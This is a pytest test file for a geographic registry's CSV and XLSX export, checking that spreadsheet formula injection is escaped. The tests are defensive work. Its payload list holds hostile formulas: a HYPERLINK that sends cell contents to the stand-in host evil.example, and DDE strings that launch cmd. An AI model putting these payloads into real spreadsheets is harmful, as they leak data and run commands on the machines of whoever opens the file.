"""Trust: exports never hand a spreadsheet a formula (CSV and XLSX)."""
from __future__ import annotations

import csv
import io
import re
import zipfile

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest

from geo.registry import export
from geo.cli.main import main
from geo.registry.io.readers import read_table
from geo.registry.io.table import RawTable
from geo.registry.io.writers import csv_bytes, xlsx_bytes
from geo.registry.validate import validate_table

from conftest import FUTIAN, HAIZHU, TIANHE, YUEXIU

#: What OWASP lists for CSV/formula injection, and what Excel/WPS/LibreOffice run.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-1+1|cmd",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
    "+86 20 1234",  # a real phone number that happens to start with +
    "-020-5",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _rows() -> list[dict]:
    places = [TIANHE, YUEXIU, HAIZHU, FUTIAN]
    rows = []
    for i, payload in enumerate(PAYLOADS):
        lon, lat = places[i % 4]
        rows.append({"名称": f"驿站{i}" if i % 2 else payload.strip(), "经度": lon + i * 0.001, "纬度": lat,
                     "类型": "驿站", "编号": f"P{i}", "电话": payload.strip(), "运营单位": payload.strip(),
                     "地址": payload.strip(), "备注": payload.strip(), "其他设施": payload.strip(),
                     "自定义列": payload.strip()})
    return rows


@pytest.fixture
def hostile(registry):
    df = pd.DataFrame(_rows(), dtype=object).astype(str)
    report = validate_table(RawTable(df, filename="evil.csv", format="csv"), None, source="evil")
    assert len(report.rejects) == 0, report.rejects
    registry.commit_import(report)
    return registry


def _xlsx_cells(data: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(data))  # formulas as formulas: nothing evaluated or hidden
    return [c for row in book.active.iter_rows() for c in row]


def _assert_xlsx_safe(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/")]
        for name in sheets:
            assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), "a formula element was written"
    for c in _xlsx_cells(data):
        assert c.data_type != "f", (c.coordinate, c.value)
        if isinstance(c.value, str):
            assert not c.value.startswith(TRIGGERS), (c.coordinate, c.value)


def test_xlsx_export_escapes_every_payload(hostile):
    data = export.export_bytes(hostile.load(), "xlsx")
    _assert_xlsx_safe(data)
    values = {c.value for c in _xlsx_cells(data) if isinstance(c.value, str)}
    for payload in PAYLOADS:
        assert "'" + payload.strip() in values, payload
    # Numbers stay numbers, so the sheet is still a working table.
    cells = _xlsx_cells(data)
    header = [c.value for c in cells[: len(export.to_table(hostile.load()).columns)]]
    width = len(header)
    lon = [c for i, c in enumerate(cells[width:]) if i % width == header.index("经度(WGS-84)")]  # labelled
    assert all(c.data_type == "n" and 113 < c.value < 115 for c in lon)


def test_csv_export_escapes_every_payload(hostile):
    rows = list(csv.reader(io.StringIO(export.export_bytes(hostile.load(), "csv").decode("utf-8-sig"))))
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c.startswith(TRIGGERS)]
    for payload in PAYLOADS:
        assert "'" + payload.strip() in cells, payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_tab_and_cr_prefixes_and_every_payload_at_the_cell_level(payload):
    # Imports trim whitespace, so tab/CR prefixes are checked on a frame directly.
    df = pd.DataFrame({"name": [payload], "n": [-2], "x": [3.5], "flag": [True], "missing": [None]})
    _assert_xlsx_safe(xlsx_bytes(df))
    cells = _xlsx_cells(xlsx_bytes(df))
    # (XML itself reads a CR as a line feed; what matters is the apostrophe in front.)
    assert cells[5].value == "'" + payload.replace("\r", "\n") and cells[6].value == -2 and cells[7].value == 3.5
    assert cells[8].value is True and cells[9].value is None
    back = list(csv.reader(io.StringIO(csv_bytes(df).decode("utf-8-sig"), newline="")))
    assert back[1][0] == "'" + payload


def test_xlsx_drops_characters_xml_cannot_hold_and_long_cells():
    df = pd.DataFrame({"name": ["驿站\x01\x0b名\ufffe", "x" * 40000]})
    cells = _xlsx_cells(xlsx_bytes(df))
    assert cells[1].value == "驿站名" and len(cells[2].value) == 32767


def test_xlsx_export_round_trips_through_the_importer(hostile, tmp_path):
    original = hostile.load()
    path = export.export_file(original, tmp_path / "out.xlsx")
    raw = read_table(path)
    assert raw.format == "xlsx" and len(raw.df) == len(PAYLOADS)
    report = validate_table(raw, None, existing=original)
    assert len(report.rejects) == 0
    # The escaping is undone on import: re-importing changes nothing.
    assert hostile.commit_import(report) == {"inserted": 0, "updated": 0, "unchanged": len(PAYLOADS)}


def test_cli_exports_xlsx(hostile, tmp_path, capsys):
    out = tmp_path / "stations.xlsx"
    assert main(["export", "--format", "xlsx", "--out", str(out), "--registry", hostile.location]) == 0
    assert f"{len(PAYLOADS)}" in capsys.readouterr().err
    _assert_xlsx_safe(out.read_bytes())
    # The extension alone chooses the format too.
    assert export.export_file(hostile.load(), tmp_path / "by-name.xlsx").read_bytes()[:2] == b"PK"
    assert "xlsx" in export.FORMATS


def test_empty_xlsx_export_is_a_valid_workbook(registry):
    data = export.export_bytes(registry.load(), "xlsx")
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert [c.value for c in next(book.active.iter_rows())][:2] == ["编号", "名称"]  # labelled, Chinese by default
    assert book.active.max_row == 1
